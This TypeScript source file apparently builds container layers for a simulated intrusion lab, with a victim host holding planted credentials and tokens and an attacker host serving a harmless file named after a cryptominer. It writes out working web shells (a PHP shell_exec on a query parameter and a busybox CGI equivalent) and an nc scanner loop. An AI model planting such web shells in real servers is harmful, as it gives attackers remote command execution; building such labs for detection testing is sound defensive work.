import { chmodSync, chownSync, copyFileSync, mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { addresses, hostsFile } from "../network/addresses.ts";
import type { PlantedSecrets } from "./secrets.ts";
import type { VictimRoot } from "./victim-root.ts";

// A layer over the root, as an image's last layer would be: configuration, the web shell, planted secrets.
// What the container itself writes goes to another layer above, which is what makes drift visible.

/** www-data in Debian, and in the busybox root. */
export const webUser = 33;

/** The page through which the attacker gives orders: `cmd` in the query is run, its output is the answer. */
const webShellPhp = `<?php\necho shell_exec($_GET["cmd"]);\n`;

/** The same for busybox: httpd runs it with sh, as its configuration says. */
const webShellCgi = `printf 'Content-Type: text/plain\\r\\n\\r\\n'
encoded=$(echo "$QUERY_STRING" | sed 's/^cmd=//; s/+/ /g')
exec sh -c "$(httpd -d "$encoded")"
`;

/** busybox has no scanner; this one tries the same addresses and port as the real one, with nc, and says what it found. */
const scannerScript = `#!/bin/sh
i=0
while [ $i -lt 256 ]; do
  nc -w 1 ${addresses.kubernetes.replace(/\d+$/, "$i")} 443 </dev/null >/dev/null 2>&1 && echo "443/tcp open at number $i"
  i=$((i+1))
done
echo "$i IP addresses scanned"
`;

const nginxConfiguration = `user www-data;
pid /run/nginx.pid;
worker_processes 1;
error_log /var/log/nginx/error.log;
events { worker_connections 64; }
http {
  access_log /var/log/nginx/access.log;
  server {
    listen ${addresses.victim}:80;
    root /var/www/html;
    location ~ \\.php$ {
      include fastcgi_params;
      fastcgi_param SCRIPT_FILENAME $document_root$fastcgi_script_name;
      fastcgi_pass unix:/run/php-fpm.sock;
      fastcgi_read_timeout 60s;
    }
  }
}
`;

const phpFpmConfiguration = (secrets: PlantedSecrets) => `[global]
error_log = /var/log/php-fpm.log
[www]
user = www-data
group = www-data
listen = /run/php-fpm.sock
listen.owner = www-data
listen.group = www-data
pm = static
pm.max_children = 2
env[PATH] = /usr/local/bin:/usr/bin:/bin
env[AWS_SECRET_ACCESS_KEY] = ${secrets.variable}
`;

/** Writes the victim's layer into the empty folder `layer`. */
export function writeVictimLayer(layer: string, root: VictimRoot, secrets: PlantedSecrets): void {
  writeNames(layer, "victim");
  put(layer, "home/user/.git-credentials", `${secrets.gitCredentials}\n`);
  put(layer, "var/www/html/index.html", "<h1>It works</h1>\n");
  if (root.kind === "debian") {
    put(layer, "var/www/html/ws.php", webShellPhp);
    put(layer, "etc/nginx/nginx.conf", nginxConfiguration);
    put(layer, "etc/simulation/php-fpm.conf", phpFpmConfiguration(secrets));
  } else {
    put(layer, "var/www/html/ws.php", webShellCgi);
    put(layer, "etc/httpd.conf", "*.php:/bin/sh\n");
    put(layer, "bin/nmap", scannerScript, 0o755);
  }
  // The attack downloads into the folder that the web server runs in.
  chownSync(join(layer, "var/www/html"), webUser, webUser);
}

/** Writes the attacker's layer: the files that it serves, a harmless program under a miner's name among them. */
export function writeAttackerLayer(layer: string, root: VictimRoot): void {
  writeNames(layer, "attacker");
  const miner = join(layer, "srv/xmrig");
  mkdirSync(dirname(miner), { recursive: true });
  copyFileSync(join(root.path, "bin/true"), miner);
  chmodSync(miner, 0o644);
}

/** Lays the service account's folder out as the kubelet does: files behind two links, so that they change at once. */
export function writeServiceAccount(folder: string, token: string): void {
  const version = "..2026_01_01_00_00_00.1234567890";
  put(folder, `${version}/token`, token);
  put(folder, `${version}/namespace`, "default");
  symlinkSync(version, join(folder, "..data"));
  symlinkSync("..data/token", join(folder, "token"));
  symlinkSync("..data/namespace", join(folder, "namespace"));
}

function writeNames(layer: string, hostname: string): void {
  put(layer, "etc/hosts", hostsFile);
  put(layer, "etc/hostname", `${hostname}\n`);
  // Without a name server no program waits for one.
  put(layer, "etc/resolv.conf", "");
}

function put(folder: string, path: string, text: string, mode = 0o644): void {
  const file = join(folder, path);
  mkdirSync(dirname(file), { recursive: true, mode: 0o755 });
  writeFileSync(file, text, { mode });
}
